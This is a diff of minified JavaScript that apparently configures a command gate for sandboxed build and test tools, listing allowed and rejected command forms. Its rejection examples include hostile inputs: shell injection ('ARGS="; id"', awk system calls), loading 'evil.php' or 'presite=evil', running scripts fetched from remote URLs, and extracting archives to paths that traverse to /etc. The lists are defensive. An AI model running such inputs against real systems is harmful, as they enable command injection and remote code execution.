+"skips-tests":"no-run"}},SO={risk:"write",alone:"only-prints",flags:{text:`
       color= frozen locked offline quiet,q verbose,v all all-features all-targets bench? benches bin? bins doc
       example? examples exclude= F,features= jobs,j= keep-going lib message-format= no-default-features no-deps
       no-fail-fast package,p? profile= release,r target? test? tests workspace
     `,path:"C= manifest-path=",output:"target-dir="},refused:{"only-prints":"tree metadata locate-project pkgid version \
 help","uses-network":"install uninstall add remove update fetch vendor init new publish audit outdated","writes-files":"\
-package clean fix"},subcommands:{"test,t,bench":hh,"build,b,check,c,run,r":{operands:"text"},"doc,d":{operands:"text",flags:{
+package clean fix"},subcommands:{"test,t,bench":yh,"build,b,check,c,run,r":{operands:"text"},"doc,d":{operands:"text",flags:{
 text:"document-private-items","outside-code":"open"}},clippy:{operands:"text",flags:{"tool-writes":"fix allow-dirty allo\
 w-staged allow-no-vcs"},behind:{flags:{text:"no-deps",choice:["D","W","A","F","deny","warn","allow","forbid"].map(n=>`${n}\
-=${mO}`).join(" ")}}},fmt:{unless:{"tool-writes":"check"},flags:{text:"check edition=",config:"config-path="},behind:{flags:{
-text:"check edition= quiet,q verbose,v",config:"config-path="}}},"nextest run":{...hh,flags:{text:"E,filterset= retries=\
+=${OO}`).join(" ")}}},fmt:{unless:{"tool-writes":"check"},flags:{text:"check edition=",config:"config-path="},behind:{flags:{
+text:"check edition= quiet,q verbose,v",config:"config-path="}}},"nextest run":{...yh,flags:{text:"E,filterset= retries=\
  test-threads= partition=","skips-tests":"no-run no-tests="}}},directory_flags:["-C"],settings:[".cargo/config.toml",".c\
 argo/config","rust-toolchain.toml","rust-toolchain"],build_files:["Cargo.toml","build.rs","clippy.toml","rustfmt.toml"],
 dependencies:[{path:"target",at:"anywhere"},{path:"vendor",at:"anywhere"},{path:".cargo/bin",at:"home"},{path:".cargo/gi\
@@ -4816,7 +4840,7 @@ t",at:"home"},{path:".cargo/registry",at:"home"},{path:".rustup",at:"home",varia
 true",CARGO_TERM_COLOR:"never",RUSTUP_AUTO_INSTALL:"0"},match:["cargo test --workspace --all-features name -- --nocaptur\
 e --test-threads=1","cargo clippy --all-targets -- -D warnings","cargo fmt --all -- --check","cargo run -- --version"],not_match:[
 "cargo --config build.rustc-wrapper=./x test","cargo +nightly test","cargo clippy -- -Clinker=./x","cargo fmt -- --emit \
-files","cargo test -- --logfile /tmp/x"]},yO={risk:"write",alone:"only-prints",flags:{text:"a asan cover covermode= cove\
+files","cargo test -- --logfile /tmp/x"]},TO={risk:"write",alone:"only-prints",flags:{text:"a asan cover covermode= cove\
 rpkg= json mod= msan p= race tags= trimpath v work x",path:"C=",config:"modfile= overlay=",output:"o=","outside-code":"e\
 xec=","only-prints":"n h help"},refused:{"only-prints":"list version doc help","uses-network":"get install bug","outside\
 -code":"env generate tool work telemetry","writes-files":"clean fix"},subcommands:{test:{operands:"import",flags:{text:"\
@@ -4828,7 +4852,7 @@ graph why help","uses-network":"download edit init vendor"}},"mod verify":{},"mo
 text:"diff"}}},directory_flags:["-C"],build_files:["go.mod","go.work","go.env"],dependencies:[{path:"vendor",at:"anywher\
 e"},{path:"go/pkg/mod",at:"home",variable:"GOMODCACHE"}],environment:{GOPROXY:"off",GOTOOLCHAIN:"local",GOTELEMETRY:"off",
 GOENV:"off",GOVCS:"*:off"},match:['go test -race -run "TestA|TestB" ./pkg/...',"go test ./... -args -x","go mod verify"],
-not_match:["go test --exec ./x ./...","go run example.com/x@latest","go test -ldflags=-extldflags=-fuse-ld=x ./..."]},wO={
+not_match:["go test --exec ./x ./...","go run example.com/x@latest","go test -ldflags=-extldflags=-fuse-ld=x ./..."]},IO={
 extensions:"js mjs cjs jsx ts mts cts tsx",starts:"script-tool-or-file",alone:"only-prints",flags:{text:`
       bail bun,b concurrency= conditions= coverage coverage-reporter= filter,F= if-present no-install
       only-failures randomize reporter= rerun-each= retry= seed= silent smol test-name-pattern,t= timeout=
@@ -4846,7 +4870,7 @@ test:{operands:"tests"},run:{starts:"script-tool-or-file",alone:"only-prints"}},
 {path:".bun/install/cache",at:"home",variable:"BUN_INSTALL_CACHE_DIR"}],environment:{BUN_CONFIG_NO_INSTALL:"1",DO_NOT_TRACK:"\
 1",BUN_RUNTIME_TRANSPILER_CACHE_PATH:"0"},match:["bun test src/a.test.ts --bail","bun lint","bun run --filter a test","b\
 un scripts/check.ts"],not_match:["bun --eval 1","bun test --preload ../x.ts","bun run ../x.ts","bun ci/e.sh","bun ci/x.w\
-asm"]},bO={extensions:"js mjs cjs jsx ts mts cts tsx",starts:"file",alone:"reads-stdin",flags:{text:`
+asm"]},$O={extensions:"js mjs cjs jsx ts mts cts tsx",starts:"file",alone:"reads-stdin",flags:{text:`
       allow-all,A allow-read,R allow-write,W allow-net,N allow-env,E allow-sys,S allow-run allow-ffi
       deny-read deny-write deny-net deny-env deny-sys deny-run deny-ffi no-prompt cached-only check
       no-check no-remote no-npm no-lock frozen quiet,q seed= ignore= parallel fail-fast shuffle filter=
@@ -4864,7 +4888,7 @@ flags:{"outside-code":"eval",path:"cwd="}}},build_files:["deno.json","deno.jsonc
 anywhere"},{path:"vendor",at:"root"},{path:".cache/deno",at:"home",variable:"DENO_DIR"}],environment:{DENO_NO_UPDATE_CHECK:"\
 1",DENO_NO_PROMPT:"1",DENO_NO_PACKAGE_JSON:"0"},match:["deno test --allow-read=/tmp --allow-write=/tmp","deno fmt --chec\
 k","deno task test"],not_match:["deno test --allow-ffi=/tmp/x.so tests","deno run npm:cowsay","deno run x.sh","deno x.wa\
-sm"]},_O={risk:"write",operands:"text",completes:!0,flags:{text:`
+sm"]},RO={risk:"write",operands:"text",completes:!0,flags:{text:`
       B,always-make b debug? d j,jobs? k,keep-going l,load-average,max-load? m output-sync,O?
       no-print-directory,w print-directory no-keep-going,stop,S R,no-builtin-variables r,no-builtin-rules
       s,silent,quiet no-silent shuffle? trace warn-undefined-variables
@@ -4875,7 +4899,7 @@ blish publish-~ deploy deploy-~ release upload","writes-files":"uninstall","neve
 variables:["V","VERBOSE"],directory_flags:["-C","--directory"],build_files:["Makefile","makefile","GNUmakefile","*.mk","\
 CMakeLists.txt","configure"],environment:{MAKEFLAGS:"",GNUMAKEFLAGS:"",MAKEFILES:""},match:["make","make -C packages/a t\
 est","make -j4 check V=1","make -f build/Makefile test"],not_match:["make test SHELL:=./x",'make test ARGS="; id"',"make\
- -I ../x test","make test CC=-x"]},EO={risk:"safe",starts:"script-or-tool",alone:"only-prints",flags:{text:`
+ -I ../x test","make test CC=-x"]},NO={risk:"safe",starts:"script-or-tool",alone:"only-prints",flags:{text:`
       aggregate-output color,no-color filter,F= filter-prod= if-present include-workspace-root loglevel=
       no-bail no-sort bail parallel recursive,r reporter= reporter-hide-prefix sequential silent,s sort
       stream w workspace-concurrency= workspace-root
@@ -4894,7 +4918,7 @@ workspace.yaml",".pnpmfile.cjs",".pnpmfile.mjs"],dependencies:[{path:"node_modul
 false",npm_config_package_manager_strict:"false",npm_config_verify_deps_before_run:"false",pnpm_config_verify_deps_before_run:"\
 false",COREPACK_ENABLE_NETWORK:"0",COREPACK_ENABLE_STRICT:"0",COREPACK_ENABLE_PROJECT_SPEC:"0"},match:["pnpm lint --max-\
 warnings 0","pnpm --filter a... test","pnpm vitest run --coverage"],not_match:['pnpm exec sh -c "id"',"pnpm --config.scr\
-ipt-shell=./x test","pnpm exec tsx -e 1"]},vO={starts:"script-or-tool",alone:"uses-network",flags:{text:`
+ipt-shell=./x test","pnpm exec tsx -e 1"]},FO={starts:"script-or-tool",alone:"uses-network",flags:{text:`
       frozen-lockfile json mutex= no-progress non-interactive offline silent,s verbose top-level,T
       binaries-only,B include= exclude= from= jobs,j= interlaced,i parallel,p topological,t topological-dev
       recursive,R worktree,W since? all,A no-private
@@ -4914,17 +4938,17 @@ nv.yarn .pnp.cjs .pnp.loader.mjs .yarn/plugins .yarn/releases".split(" "),depend
 e"},{path:".pnp.cjs",at:"root"},{path:".pnp.loader.mjs",at:"root"},{path:".yarn",at:"root"},{path:".yarn/berry/cache",at:"\
 home"}],environment:{YARN_ENABLE_NETWORK:"0",YARN_ENABLE_TELEMETRY:"0",YARN_ENABLE_GLOBAL_CACHE:"1",COREPACK_ENABLE_NETWORK:"\
 0",COREPACK_ENABLE_STRICT:"0",COREPACK_ENABLE_PROJECT_SPEC:"0"},match:["yarn lint --max-warnings 0","yarn workspace a ru\
-n test","yarn jest --ci"],not_match:["yarn","yarn exec bash","yarn --cwd ../x test","yarn --use-yarnrc x test"]},ph=[{path:"\
-vendor",at:"anywhere"}],kO={starts:"file",extensions:"php",alone:"reads-stdin",flags:{choice:"d=display_errors=~|display\
+n test","yarn jest --ci"],not_match:["yarn","yarn exec bash","yarn --cwd ../x test","yarn --use-yarnrc x test"]},wh=[{path:"\
+vendor",at:"anywhere"}],PO={starts:"file",extensions:"php",alone:"reads-stdin",flags:{choice:"d=display_errors=~|display\
 _startup_errors=~|error_reporting=~|memory_limit=~|max_execution_time=~|date.timezone=~|assert.exception=1|zend.assertio\
 ns=1|xdebug.mode=off|xdebug.mode=coverage|pcov.enabled=1","checks-syntax-only":"l,syntax-check","outside-code":"r,run= c\
 ,php-ini=","reads-stdin":"a,interactive","only-prints":"i,info m,modules ini s,syntax-highlight w,strip"},dependency_tools:[
-"phpunit"],dependencies:ph,match:["php scripts/check.php --strict","php -d memory_limit=1G -ddisplay_errors=1 scripts/ch\
+"phpunit"],dependencies:wh,match:["php scripts/check.php --strict","php -d memory_limit=1G -ddisplay_errors=1 scripts/ch\
 eck.php","php bin/console lint:yaml config","php -l src/a.php","php vendor/bin/phpunit --testdox tests","php ./vendor/ph\
 punit/phpunit/phpunit -c phpunit.xml"],not_match:["php",'php -r "echo 1;"',"php -d auto_prepend_file=evil.php x.php","ph\
 p -dauto_prepend_file=evil.php x.php","php -c evil.ini x.php","php -S localhost:80","php -f x.php","php scripts/x.sh","p\
 hp tool.phar","php https://x.test/y.php","php vendor/bin/phpunit --bootstrap ../x.php","php vendor/bin/phpunit --unknown"]},
-DO={operands:"tests",flags:{text:`
+LO={operands:"tests",flags:{text:`
       testsuite= exclude-testsuite= group= exclude-group= filter= exclude-filter= test-suffix=
       process-isolation stop-on-defect stop-on-error stop-on-failure stop-on-warning fail-on-warning
       fail-on-risky fail-on-deprecation fail-on-notice fail-on-skipped fail-on-incomplete
@@ -4936,20 +4960,20 @@ DO={operands:"tests",flags:{text:`
 l=","outside-code":"loader=","tool-writes":"generate-baseline= generate-configuration migrate-configuration","skips-test\
 s":"do-not-fail-on-empty-test-suite do-not-fail-on-warning do-not-fail-on-risky ignore-baseline","only-prints":"list-sui\
 tes list-groups list-tests list-tests-xml= atleast-version= check-version"},settings:["vendor"],build_files:["phpunit.xm\
-l","phpunit.xml.dist","phpunit.dist.xml","composer.json"],dependencies:ph,match:["phpunit","phpunit --colors=never --fil\
+l","phpunit.xml.dist","phpunit.dist.xml","composer.json"],dependencies:wh,match:["phpunit","phpunit --colors=never --fil\
 ter testA tests/ATest.php"],not_match:["phpunit --bootstrap=../x.php","phpunit -c /etc/x.xml","phpunit --extension X"]},
-xO="conftest.py pytest.toml .pytest.toml pytest.ini .pytest.ini pyproject.toml tox.ini setup.cfg setup.py sitecustomize.\
+jO="conftest.py pytest.toml .pytest.toml pytest.ini .pytest.ini pyproject.toml tox.ini setup.cfg setup.py sitecustomize.\
 py usercustomize.py".split(" "),jr=[{path:".venv",at:"anywhere"},{path:"venv",at:"anywhere"},{path:"__pypackages__",at:"\
-root"},{path:".local/bin",at:"home"},{path:".local/lib",at:"home"},{path:".pyenv",at:"home",variable:"PYENV_ROOT"}],ro={
-PYTHONDONTWRITEBYTECODE:"1",PYTHONNOUSERSITE:"0",PIP_NO_INDEX:"1",PIP_DISABLE_PIP_VERSION_CHECK:"1"},OO={programs:["pyth\
+root"},{path:".local/bin",at:"home"},{path:".local/lib",at:"home"},{path:".pyenv",at:"home",variable:"PYENV_ROOT"}],io={
+PYTHONDONTWRITEBYTECODE:"1",PYTHONNOUSERSITE:"0",PIP_NO_INDEX:"1",PIP_DISABLE_PIP_VERSION_CHECK:"1"},MO={programs:["pyth\
 on","python3"],starts:"file",extensions:"py",alone:"reads-stdin",flags:{text:"b B d E I P q R s S u v W=",choice:"X=dev|\
 utf8|utf8=1|importtime","outside-code":"x c+",weakens:"O OO",module:"m+","reads-stdin":"i","only-prints":"help,h version\
 ,V help-all help-env help-xoptions ?"},started_programs:["pytest","ruff","mypy"],build_files:["sitecustomize.py","usercu\
-stomize.py"],dependencies:jr,environment:ro,match:["python3 scripts/check.py --strict","python -m pytest -q tests","pyth\
+stomize.py"],dependencies:jr,environment:io,match:["python3 scripts/check.py --strict","python -m pytest -q tests","pyth\
 on -B -W error scripts/check.py","python -X dev -Xutf8 -X importtime scripts/check.py","python -m py_compile scripts/che\
 ck.py"],not_match:['python -Ic "print(1)"',"python -","python -m pip install x","python -X presite=evil scripts/check.py",
 "python -Xfrozen_modules=off scripts/check.py","python scripts/x.sh","python tool.pyz","python -m py_compile -","python \
--m py_compile ../x.py","python https://x.test/y.py"]},AO={operands:"tests",flags:{text:`
+-m py_compile ../x.py","python https://x.test/y.py"]},GO={operands:"tests",flags:{text:`
       assert= cache-show? capture= color= deselect= doctest-continue-on-failure doctest-glob= doctest-modules
       durations= durations-min= exitfirst,x failed-first,ff full-trace import-mode= k= l showlocals
       last-failed,lf last-failed-no-failures,lfnf= log-cli-level= log-level= m= maxfail= new-first,nf
@@ -4965,10 +4989,10 @@ ck.py"],not_match:['python -Ic "print(1)"',"python -","python -m pip install x",
     `,module:"p= ds= W,pythonwarnings=",path:"rootdir= confcutdir= cov-source=",config:"config-file,c= cov-config=",output:"\
 basetemp= junitxml= log-file= report-log= html= debug? benchmark-json= json-report-file=","reads-stdin":"pdb trace","onl\
 y-prints":"help,h version,V co,collect-only fixtures,funcargs fixtures-per-test markers setup-only setup-plan","tool-wri\
-tes":"cache-clear snapshot-update benchmark-save= benchmark-autosave",weakens:"suppress-no-test-exit-code"},build_files:xO,
-dependencies:jr,environment:{...ro,PYTEST_ADDOPTS:""},match:["pytest -q tests/test_a.py::test_b","pytest -p no:cacheprov\
+tes":"cache-clear snapshot-update benchmark-save= benchmark-autosave",weakens:"suppress-no-test-exit-code"},build_files:jO,
+dependencies:jr,environment:{...io,PYTEST_ADDOPTS:""},match:["pytest -q tests/test_a.py::test_b","pytest -p no:cacheprov\
 ider","pytest --cov=src --cov-report=term-missing"],not_match:["pytest -o addopts=-x","pytest --tx popen//python=sh","py\
-test --junitxml=../x.xml","pytest @args.txt"]},SO={alone:"only-prints",flags:{text:`
+test --junitxml=../x.xml","pytest @args.txt"]},HO={alone:"only-prints",flags:{text:`
       check color= diff exclude= exit-non-zero-on-fix exit-non-zero-on-format extend-exclude= extend-ignore=
       extend-select= fixable= force-exclude ignore= ignore-noqa isolated line-length= no-cache,n
       output-format= per-file-ignores= preview quiet,q respect-gitignore select= silent,s statistics
@@ -4978,7 +5002,7 @@ er-ends":"watch,w","reads-stdin":"stdin-filename=",weakens:"exit-zero,e","only-p
 -settings"},refused:{"only-prints":"rule config linter version help analyze","writes-files":"clean","never-ends":"server"},
 subcommands:{check:{},format:{unless:{"tool-writes":"check diff"}}},build_files:["ruff.toml",".ruff.toml","pyproject.tom\
 l"],dependencies:jr,environment:{RUFF_NO_CACHE:"true"},match:["ruff check","ruff check src --select E","ruff format --ch\
-eck","ruff check --fix"],not_match:["ruff check --watch","ruff check ../x","ruff clean","ruff nonsense"]},TO={completes:!0,
+eck","ruff check --fix"],not_match:["ruff check --watch","ruff check ../x","ruff clean","ruff nonsense"]},zO={completes:!0,
 flags:{text:`
       allow-redefinition always-false= always-true= cache-fine-grained check-untyped-defs color-output
       disable-error-code= disallow-any-explicit disallow-any-expr disallow-any-generics
@@ -4993,9 +5017,9 @@ flags:{text:`
     `,path:"cache-dir= custom-typing-module= custom-typeshed-dir=",config:"config-file=",output:"cobertura-xml-report= h\
 tml-report= linecount-report= txt-report= xml-report= junit-xml=","outside-code":"command,c=","uses-network":"interactiv\
 e","reads-stdin":"pdb","only-prints":"find-occurrences= stats"},build_files:["mypy.ini",".mypy.ini","pyproject.toml","se\
-tup.cfg"],dependencies:jr,environment:{...ro,MYPY_FORCE_COLOR:"0"},match:["mypy src","mypy --strict src","mypy -p packag\
+tup.cfg"],dependencies:jr,environment:{...io,MYPY_FORCE_COLOR:"0"},match:["mypy src","mypy --strict src","mypy -p packag\
 e --no-incremental","mypy"],not_match:['mypy -c "1"',"mypy --python-executable=./x src","mypy --config-file=/etc/x src"]},
-IO={extensions:"py",alone:"only-prints",flags:{text:`
+UO={extensions:"py",alone:"only-prints",flags:{text:`
       active all-extras all-groups all-packages check exact extra= frozen group= isolated locked no-cache,n
       no-config no-default-groups no-dev no-editable no-env-file no-project no-sync offline only-dev
       only-group= package= prerelease= quiet,q resolution= verbose,v dev
@@ -5006,17 +5030,17 @@ module,m+","uses-network":"with,w=","only-prints":"help,h version,V show-setting
 program",alone:"only-prints"},lock:{unless:{"tool-writes":"check locked dry-run"}}},started_programs:["pytest","ruff","m\
 ypy","python","python3"],directory_flags:["--directory"],build_files:["pyproject.toml","uv.toml"],dependencies:[...jr,{path:"\
 .cache/uv",at:"home",variable:"UV_CACHE_DIR"},{path:".local/share/uv/python",at:"home"},{path:".local/share/uv/tools",at:"\
-home"}],environment:{...ro,UV_OFFLINE:"1",UV_NO_PROGRESS:"1",UV_PYTHON_DOWNLOADS:"never"},match:["uv run scripts/check.p\
+home"}],environment:{...io,UV_OFFLINE:"1",UV_NO_PROGRESS:"1",UV_PYTHON_DOWNLOADS:"never"},match:["uv run scripts/check.p\
 y","uv run --frozen python -m pytest","uv lock --check"],not_match:["uv run sh -c id","uv run pytest -o addopts=x","uv r\
-un https://x.test/y.py","uv run -","uv run ci/e.sh","uv run ci/e.PY.sh","uv run ./e.zip"]},mh={warnings:["archive_extrac\
-tion_overwrite"]},gh={warnings:["archive_creation_overwrite"]},$O={curated:{tar:{risk:"write",forms:{"-tf {archive}":{risk:"\
-safe"},"-xf {archive} -C {destination}":mh,"-czf {archive} {source...}":gh},match:["tar -tf a.tar","tar -xf a.tar -C out",
+un https://x.test/y.py","uv run -","uv run ci/e.sh","uv run ci/e.PY.sh","uv run ./e.zip"]},bh={warnings:["archive_extrac\
+tion_overwrite"]},_h={warnings:["archive_creation_overwrite"]},JO={curated:{tar:{risk:"write",forms:{"-tf {archive}":{risk:"\
+safe"},"-xf {archive} -C {destination}":bh,"-czf {archive} {source...}":_h},match:["tar -tf a.tar","tar -xf a.tar -C out",
 "tar -czf a.tgz src docs"],not_match:["tar -czf a.tgz .","tar -xf a.tar -C /usr/local/","tar -tf host:a.tar"]},unzip:{risk:"\
-write",forms:{"-l {archive}":{risk:"safe"},"{archive} -d {destination}":mh},match:["unzip -l a.zip","unzip a.zip -d out"],
+write",forms:{"-l {archive}":{risk:"safe"},"{archive} -d {destination}":bh},match:["unzip -l a.zip","unzip a.zip -d out"],
 not_match:["unzip a.zip","unzip -o a.zip -d out","unzip a.zip -d out/../../../etc"]},zip:{risk:"write",forms:{"-r {archi\
-ve} {source...}":gh},match:["zip -r a.zip src"],not_match:["zip a.zip src","zip -r a.zip","zip -r a.zip src/.."]}}},Ch={
-dangerous_targets:["/"],operands:"text path..."},RO={curated:{cd:{operands:"path?",default_operand:"~",match:["cd src"],
-not_match:["cd a b"]},chmod:{...Ch,risk:"write",match:["chmod u+x a"],not_match:["chmod -R 644 a"]},chown:{...Ch,risk:"d\
+ve} {source...}":_h},match:["zip -r a.zip src"],not_match:["zip a.zip src","zip -r a.zip","zip -r a.zip src/.."]}}},Eh={
+dangerous_targets:["/"],operands:"text path..."},ZO={curated:{cd:{operands:"path?",default_operand:"~",match:["cd src"],
+not_match:["cd a b"]},chmod:{...Eh,risk:"write",match:["chmod u+x a"],not_match:["chmod -R 644 a"]},chown:{...Eh,risk:"d\
 angerous",match:["chown me a"],not_match:["chown -R me a"]},cp:{risk:"write",flags:{text:"R n p"},operands:"path path...",
 match:["cp -R a b"],not_match:["cp a","cp -f a b"]},file:{flags:{text:"b"},operands:"input...",match:["file -b a"],not_match:[
 "file","file -"]},mkdir:{risk:"write",flags:{text:"p"},operands:"path...",match:["mkdir -p a"],not_match:["mkdir"]},mv:{
@@ -5037,28 +5061,28 @@ ytes literal numeric-uid-gid quote-name reverse recursive size",pattern:"I= igno
 o|always|never indicator-style?=none|slash|file-type|classify sort?=none|size|time|version|extension|name|width time?=at\
 ime|access|use|ctime|status|mtime|modification|birth|creation time-style?=full-iso|long-iso|iso|locale format?=across|co\
 mmas|horizontal|long|single-column|verbose|vertical"},default_operand:".",match:["ls","ls -ltrh src","ls --color=auto","\
-ls --sort=time src","ls --all"],not_match:["ls --color src","ls https://host.test","ls --sort=x","ls --force"]}}},io={text:"\
+ls --sort=time src","ls --all"],not_match:["ls --color src","ls https://host.test","ls --sort=x","ls --force"]}}},oo={text:"\
 w cached staged check exit-code name-only name-status numstat quiet shortstat stat no-color",count:"U= unified=",choice:"\
-color?=auto|always|never"},NO={...io,text:`${io.text} p S= G= all decorate first-parent follow graph merges no-merges on\
+color?=auto|always|never"},WO={...oo,text:`${oo.text} p S= G= all decorate first-parent follow graph merges no-merges on\
 eline patch reverse
-    after= author= before= committer= date= format= grep= pretty= since= until=`,count:`${io.count} n= max-count= skip=`},
-FO={both:{git:{subcommands:{status:{flags:{text:"b s branch long porcelain short"}},diff:{flags:io},log:{flags:NO}},curated:{
+    after= author= before= committer= date= format= grep= pretty= since= until=`,count:`${oo.count} n= max-count= skip=`},
+KO={both:{git:{subcommands:{status:{flags:{text:"b s branch long porcelain short"}},diff:{flags:oo},log:{flags:WO}},curated:{
 risk:"dangerous",forms:{"status --short":{risk:"safe"},"branch --show-current":{risk:"safe"},"log --oneline -n {count:1-\
 100}":{risk:"safe"},"diff --stat":{risk:"safe"},"diff --name-only":{risk:"safe"}}},match:["git status --short","git log \
---oneline -n 100"],not_match:["git","git push","git -c core.pager=sh log","git diff --ext-diff"]}}},yh={network_touching:!0,
-forms:{"{domain}":{}}},PO={curated:{curl:{network_touching:!0,forms:{"-I {url}":{}},match:["curl -I https://host.test"],
-not_match:["curl -I http://localhost","curl -I http://a:b@host.test"]},dig:{...yh,match:["dig host.test"],not_match:["di\
-g","dig @192.0.2.1 host.test"]},nslookup:{...yh,match:["nslookup host.test"],not_match:["nslookup https://host.test"]},ping:{
+--oneline -n 100"],not_match:["git","git push","git -c core.pager=sh log","git diff --ext-diff"]}}},vh={network_touching:!0,
+forms:{"{domain}":{}}},qO={curated:{curl:{network_touching:!0,forms:{"-I {url}":{}},match:["curl -I https://host.test"],
+not_match:["curl -I http://localhost","curl -I http://a:b@host.test"]},dig:{...vh,match:["dig host.test"],not_match:["di\
+g","dig @192.0.2.1 host.test"]},nslookup:{...vh,match:["nslookup host.test"],not_match:["nslookup https://host.test"]},ping:{
 network_touching:!0,forms:{"-c {count:1-10} {host}":{}},match:["ping -c 1 host.test","ping -c 3 2001:db8::5"],not_match:[
-"ping -c 11 host.test","ping -c 1 127.0.0.1","ping -c 1 169.254.169.254"]}}},wh={operands:"package...",network_touching:!0,
-warnings:["writes_files"]},LO={workspace:{"apt-get":{flags:{text:"y yes"},operands:"",subcommands:{update:{network_touching:!0},
-install:wh},match:["apt-get update","apt-get install -y jq"],not_match:["apt-get install ./x.deb","apt-get install -o x=\
-y jq","apt-get remove jq"]}}},bh={flags:{text:"q quiet v verbose U upgrade user no-deps pre force-reinstall no-cache-dir\
- disable-pip-version-check outdated y format="},operands:"package*",subcommands:{list:{},show:{},freeze:{},check:{},install:wh}},
-jO={workspace:{pip:{...bh,match:["pip list","pip install --force-reinstall x"],not_match:["pip install ../x","pip instal\
-l git+https://x/y","pip"]},pip3:{...bh,match:["pip3 list"],not_match:["pip3 install ../x"]},python3:{forms:{"--version":{},
+"ping -c 11 host.test","ping -c 1 127.0.0.1","ping -c 1 169.254.169.254"]}}},kh={operands:"package...",network_touching:!0,
+warnings:["writes_files"]},YO={workspace:{"apt-get":{flags:{text:"y yes"},operands:"",subcommands:{update:{network_touching:!0},
+install:kh},match:["apt-get update","apt-get install -y jq"],not_match:["apt-get install ./x.deb","apt-get install -o x=\
+y jq","apt-get remove jq"]}}},Dh={flags:{text:"q quiet v verbose U upgrade user no-deps pre force-reinstall no-cache-dir\
+ disable-pip-version-check outdated y format="},operands:"package*",subcommands:{list:{},show:{},freeze:{},check:{},install:kh}},
+VO={workspace:{pip:{...Dh,match:["pip list","pip install --force-reinstall x"],not_match:["pip install ../x","pip instal\
+l git+https://x/y","pip"]},pip3:{...Dh,match:["pip3 list"],not_match:["pip3 install ../x"]},python3:{forms:{"--version":{},
 "-V":{},"--help":{},"{script} {argument*}":{risk:"write"}},match:["python3 tool.py --verbose","python3 --version"],not_match:[
-'python3 -c "print(1)"',"python3 -m http.server","python3","python3 -"]}}},MO={curated:{clear:{operands:"",match:["clear"],
+'python3 -c "print(1)"',"python3 -m http.server","python3","python3 -"]}}},QO={curated:{clear:{operands:"",match:["clear"],
 not_match:["clear -x"]},lsof:{flags:{text:"a n P c= p="},match:["lsof -nP"],not_match:["lsof -t x"]},man:{operands:"page\
  page?",match:["man 1 ls"],not_match:["man -P sh ls","man ./x"]},open:{flags:{text:"R"},operands:"path...",forbidden_prefixes:[
 "http:","https:","ftp:","mailto:"],platforms:["darwin"],match:["open notes.md","open -R notes.md"],not_match:["open http\
@@ -5072,8 +5096,8 @@ int-type total"},curated:{flags:{text:"h"}},match:["df -h"],not_match:["df --out
  c h k s x b m t= B= all bytes human-readable summarize total threshold= block-size=",count:"d= max-depth=",pattern:"exc\
 lude="},default_operand:".",curated:{flags:{text:"a c h k s x",count:"d="}},match:["du -sh src","du -d 1"],not_match:["d\
 u --files0-from=x"]},uname:{flags:{text:"a m n r s v"},operands:"",match:["uname -a"],not_match:["uname x"]},whoami:{operands:"",
-match:["whoami"],not_match:["whoami x","whoami --force"]}}},_h={flags:{count:"n= c=",text:"#"},operands:"input...",curated:{
-flags:{count:"n= c="}}},GO={workspace:{awk:{flags:{text:"F= field-separator= v= assign="},operands:"awk path*",match:["a\
+match:["whoami"],not_match:["whoami x","whoami --force"]}}},xh={flags:{count:"n= c=",text:"#"},operands:"input...",curated:{
+flags:{count:"n= c="}}},XO={workspace:{awk:{flags:{text:"F= field-separator= v= assign="},operands:"awk path*",match:["a\
 wk '{print $1}' notes.md","awk -F / '{print $2}' notes.md"],not_match:[`awk 'BEGIN{system("id")}'`,"awk -f x y",`awk '{p\
 rint > "/etc/x"}' y`]},cut:{flags:{text:"d= f= b= c= s delimiter= fields= bytes= characters= complement only-delimited o\
 utput-delimiter="},match:["cut -d, -f1 data.csv"],not_match:["cut --force x"]},diff:{flags:{text:"B N a b i q r s u w y \
@@ -5090,131 +5114,131 @@ nt ignore-case invert-match files-with-matches line-number only-matching quiet r
 = include= exclude= exclude-dir=",path:"f=",count:"m= A= B= C= max-count=",choice:"color?=auto|always|never"},operands:"\
 pattern input...",first_operand_by:["-e","-f","--regexp"],last_operand_by:["-r","-R","--recursive"],default_operand:".",
 curated:{flags:{text:"E F H R h i l n r",pattern:"e=",path:"f=",count:"m="}},match:["grep -rn TODO src","grep -- -x note\
-s.md","grep -f - notes.md"],not_match:["grep","grep --force x a","grep -e a","grep x","grep x -"]},head:{..._h,match:["h\
+s.md","grep -f - notes.md"],not_match:["grep","grep --force x a","grep -e a","grep x","grep x -"]},head:{...xh,match:["h\
 ead -c5 notes.md"],not_match:["head","head -n x notes.md","head -"]},sort:{flags:{text:"n r u b c d f g h i s V z t= k= \
 field-separator= key= numeric-sort reverse unique human-numeric-sort version-sort ignore-case stable check"},operands:"i\
 nput...",curated:{flags:{text:"n r u"}},match:["sort -nr notes.md"],not_match:["sort -o out notes.md","sort","sort -","s\
-ort --compress-program=sh a"]},tail:{..._h,match:["tail -n 3 notes.md"],not_match:["tail","tail -f notes.md","tail -"]},
+ort --compress-program=sh a"]},tail:{...xh,match:["tail -n 3 notes.md"],not_match:["tail","tail -f notes.md","tail -"]},
 uniq:{flags:{text:"c d u i count repeated unique ignore-case",count:"f= s= w="},operands:"input",curated:{flags:{text:"c\
  d u"}},match:["uniq -c notes.md"],not_match:["uniq notes.md out.txt","uniq","uniq -"]},wc:{flags:{text:"c l w m L bytes\
  chars lines words max-line-length"},operands:"input...",curated:{flags:{text:"c l w"}},match:["wc -cl notes.md"],not_match:[
-"wc --files0-from=x","wc -l","wc -"]}}},HO=H.k5n(["off","auto","require"]),zO=H.Ikc({memory_bytes:H.Whr().positive(),memory_limited_by:H.
+"wc --files0-from=x","wc -l","wc -"]}}},eA=H.k5n(["off","auto","require"]),tA=H.Ikc({memory_bytes:H.Whr().positive(),memory_limited_by:H.
 k5n(["control_group","supervisor"]).describe("The kernel enforces the limit on the control group of a command, or a proc\
 ess of the gate checks the memory of a command at intervals."),processes:H.Whr().positive(),open_files:H.Whr().positive(),
-file_bytes:H.Whr().positive(),written_bytes:H.Whr().positive()}),UO=H.Ikc({name:H.YjP(),held:H.zMY(),required:H.zMY()}),
-JO=H.Ikc({from:H.YjP(),reason:H.YjP()}),ZO=H.Ikc({level:H.k5n(Ws.l$),description:H.YjP(),requested:HO.exactOptional(),launcher:H.
-YjP().exactOptional().describe("How the gate is allowed to create namespaces."),limits:zO.exactOptional().describe("The \
-limits of each command."),probes:H.YOg(UO).exactOptional().describe("The sandbox self-test: what a program that is start\
-ed like the commands could not do."),downgrades:H.YOg(JO).exactOptional().describe("Stronger containment that this machi\
